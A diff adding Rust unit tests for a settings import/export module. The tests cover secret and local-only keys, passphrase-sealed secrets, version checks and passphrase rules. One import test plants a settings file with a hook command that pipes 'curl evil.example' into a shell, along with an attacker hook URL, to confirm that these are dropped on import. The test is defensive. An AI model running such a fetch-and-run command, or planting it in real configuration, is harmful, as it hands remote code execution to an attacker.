@@ -0,0 +1,129 @@
+use crate::settings_file::{self, FORMAT, SettingsFile};
+
+fn settings() -> Vec<(String, String)> {
+    [
+        ("api_key_groq", "gsk-secret"),
+        ("stt_language", "de"),
+        ("window_x", "120"),
+        ("history_lock", "$argon2id$..."),
+        ("api_custom_key", "custom-secret"),
+        ("transcription_mode", "api"),
+    ]
+    .iter()
+    .map(|(k, v)| (k.to_string(), v.to_string()))
+    .collect()
+}
+
+fn sorted(mut settings: Vec<(String, String)>) -> Vec<(String, String)> {
+    settings.sort();
+    settings
+}
+
+#[test]
+fn secrets_and_local_keys() {
+    assert!(settings_file::is_secret("api_key_openai"));
+    assert!(settings_file::is_secret("api_custom_key"));
+    assert!(!settings_file::is_secret("api_custom_url"));
+    assert!(!settings_file::is_portable("window_y"));
+    assert!(!settings_file::is_portable("history_lock"));
+    assert!(!settings_file::is_portable("hook_command"));
+    assert!(!settings_file::is_portable("hook_url"));
+    assert!(settings_file::is_portable("sync_dir"));
+    assert!(settings_file::is_portable("sound_start"));
+    assert!(!settings_file::is_portable("cloud_consent_api.groq.com"));
+    assert!(!settings_file::is_portable("local_only"));
+    assert!(!settings_file::is_portable("remote_control"));
+    assert!(!settings_file::is_portable("silence_notifications_restore"));
+    // Exact keys don't stand for others that start the same
+    assert!(!settings_file::is_portable("theme_override"));
+}
+
+#[test]
+fn export_without_passphrase_leaves_keys_out() {
+    let json = settings_file::export(&settings(), None).unwrap();
+    assert!(!json.contains("secret"));
+    assert!(!json.contains("window_x"));
+    assert!(!json.contains("argon2"));
+    let file = settings_file::parse(&json).unwrap();
+    assert!(!file.has_secrets());
+    assert_eq!(
+        sorted(file.into_settings(None).unwrap()),
+        vec![
+            ("stt_language".to_string(), "de".to_string()),
+            ("transcription_mode".to_string(), "api".to_string()),
+        ]
+    );
+}
+
+#[test]
+fn sealed_keys_need_the_passphrase() {
+    let json = settings_file::export(&settings(), Some("correct horse")).unwrap();
+    assert!(!json.contains("gsk-secret"));
+    let file = settings_file::parse(&json).unwrap();
+    assert!(file.has_secrets());
+
+    assert_eq!(
+        file.clone().into_settings(Some("wrong horse")),
+        Err("Wrong passphrase".to_string())
+    );
+    assert_eq!(file.clone().into_settings(None).unwrap().len(), 2);
+    assert_eq!(
+        sorted(file.into_settings(Some("correct horse")).unwrap()),
+        vec![
+            ("api_custom_key".to_string(), "custom-secret".to_string()),
+            ("api_key_groq".to_string(), "gsk-secret".to_string()),
+            ("stt_language".to_string(), "de".to_string()),
+            ("transcription_mode".to_string(), "api".to_string()),
+        ]
+    );
+}
+
+#[test]
+fn import_ignores_local_and_plain_secret_keys() {
+    let json = format!(
+        r#"{{"format":"{FORMAT}","version":1,"settings":{{
+            "window_x":"5","api_key_groq":"planted","stt_language":"fr",
+            "hook_command":"curl evil.example | sh","hook_url":"https://evil.example/",
+            "cloud_consent_evil.example":"allow","remote_control":"true"}}}}"#
+    );
+    let file = settings_file::parse(&json).unwrap();
+    assert_eq!(
+        file.into_settings(None).unwrap(),
+        vec![("stt_language".to_string(), "fr".to_string())]
+    );
+}
+
+#[test]
+fn parse_rejects_other_files_and_newer_versions() {
+    assert!(settings_file::parse("[]").is_err());
+    assert!(settings_file::parse(r#"{"format":"other","version":1,"settings":{}}"#).is_err());
+    let newer = SettingsFile {
+        format: FORMAT.into(),
+        version: settings_file::VERSION + 1,
+        settings: Default::default(),
+        secrets: None,
+    };
+    let err = settings_file::parse(&serde_json::to_string(&newer).unwrap()).unwrap_err();
+    assert!(err.contains("newer version"));
+}
+
+#[test]
+fn damaged_sealed_keys_are_reported() {
+    let json = settings_file::export(&settings(), Some("correct horse")).unwrap();
+    let mut file = settings_file::parse(&json).unwrap();
+    if let Some(sealed) = file.secrets.as_mut() {
+        sealed.nonce = "zz".into();
+    }
+    assert!(
+        file.into_settings(Some("correct horse"))
+            .unwrap_err()
+            .contains("damaged")
+    );
+}
+
+#[test]
+fn passphrase_rules() {
+    assert!(settings_file::validate_passphrase("short", "short").is_err());
+    assert!(settings_file::validate_passphrase("long enough", "long enougH").is_err());
+    assert!(settings_file::validate_passphrase("long enough", "long enough").is_ok());
+}